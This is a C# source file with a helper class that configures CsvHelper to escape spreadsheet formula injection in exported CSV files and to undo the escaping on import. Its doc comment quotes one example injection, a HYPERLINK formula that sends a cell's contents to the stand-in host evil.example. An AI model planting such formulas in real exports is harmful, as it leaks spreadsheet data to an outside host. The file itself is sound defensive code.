using System.Globalization;
using CsvHelper.Configuration;

namespace KnowledgeBase.Interchange;

/// <summary>
/// CSV meant to be opened in a spreadsheet (the checklist sheet, the coverage matrix), where a cell that starts with
/// <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return is taken for a formula: a note such as
/// <c>=HYPERLINK("http://evil.example/?x="&amp;A1,"click")</c> would run in the reader's spreadsheet. Such cells are
/// written with a leading apostrophe (and quoted) by CsvHelper's injection escaping, so they show as text.
/// A cell that already starts with an apostrophe gets one more, which is what keeps the round trip lossless:
/// <see cref="Unescape"/> removes exactly one leading apostrophe from every cell that comes back, so <c>'=x</c>
/// and <c>-x</c> are read back as written. The catalog's own files (<c>data/*.csv</c>) are not for spreadsheets
/// and are written without this.
/// </summary>
public static class SpreadsheetCsv
{
    public const char Escape = '\'';

    /// <summary>What spreadsheets take for the start of a formula (CsvHelper's defaults), and the escape itself.</summary>
    private static readonly char[] Escaped = ['=', '+', '-', '@', '\t', '\r', Escape];

    public static CsvConfiguration Configuration() => new(CultureInfo.InvariantCulture)
    {
        NewLine = "\n",
        InjectionOptions = InjectionOptions.Escape,
        InjectionCharacters = Escaped,
        InjectionEscapeCharacter = Escape,
    };

    /// <summary>A cell as it was before export: one leading apostrophe removed, if there is one.</summary>
    public static string Unescape(string cell) => cell.Length > 0 && cell[0] == Escape ? cell[1..] : cell;
}
